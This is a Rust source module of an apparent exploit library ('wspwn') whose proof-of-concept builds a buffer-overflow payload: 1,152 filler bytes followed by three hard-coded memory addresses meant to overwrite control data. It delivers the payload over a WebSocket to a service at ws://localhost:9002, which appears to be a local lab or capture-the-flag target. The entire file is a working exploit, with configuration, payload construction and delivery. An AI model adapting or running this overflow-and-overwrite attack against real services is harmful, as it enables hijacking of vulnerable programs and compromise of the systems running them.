//! ## Example
//!
//! ```no_run
//! use wspwn::poc::PocConfig;
//!
//! # async fn poc() -> wspwn::error::Result<()> {
//! let reply = PocConfig::default().run().await?;
//! println!("Received: {}", String::from_utf8_lossy(&reply));
//! # Ok(())
//! # }
//! ```

use tracing::{debug, info};

use crate::connection::{Connection, WebSocket};
use crate::error::Result;
use crate::util::{Payload, P48};

pub const DEFAULT_URL: &str = "ws://localhost:9002";
pub const DEFAULT_FILLER_BYTE: u8 = b'A';
pub const DEFAULT_FILLER_LEN: usize = 1000 + 152;
/// Written onto the wire as 6-byte little-endian fields, in this order.
pub const DEFAULT_ADDRESSES: [u64; 3] = [0x7ffff7850d70, 0x7ffff78455f0, 0x7ffff79d8678];

/// Target endpoint, filler run, and the address fields that land in the
/// control-data region. `Default` is the stock payload against the local
/// service.
#[derive(Debug, Clone)]
pub struct PocConfig {
    pub url: String,
    pub filler_byte: u8,
    pub filler_len: usize,
    pub addresses: Vec<u64>,
}

impl Default for PocConfig {
    fn default() -> Self {
        Self {
            url: DEFAULT_URL.to_string(),
            filler_byte: DEFAULT_FILLER_BYTE,
            filler_len: DEFAULT_FILLER_LEN,
            addresses: DEFAULT_ADDRESSES.to_vec(),
        }
    }
}

impl PocConfig {
    /// Builds the wire body: filler first, then each address in order.
    pub fn payload(&self) -> Payload {
        let mut payload = Payload::default();
        payload.ljust(self.filler_len, self.filler_byte);
        for &address in &self.addresses {
            payload += P48(address);
        }
        payload
    }

    /// A single exchange: connect, deliver the payload as one binary
    /// message, wait for one reply, close. Failures propagate; there is
    /// no retry.
    pub async fn run(&self) -> Result<Vec<u8>> {
        let payload = self.payload();
        info!("Delivering {} byte payload to {}", payload.len(), self.url);

        let mut conn = WebSocket::connect(&self.url).await?;
        conn.send(&payload).await?;
        let reply = conn.recv().await?;
        debug!("Received {} byte reply", reply.len());
        conn.close().await?;
        Ok(reply)
    }
}
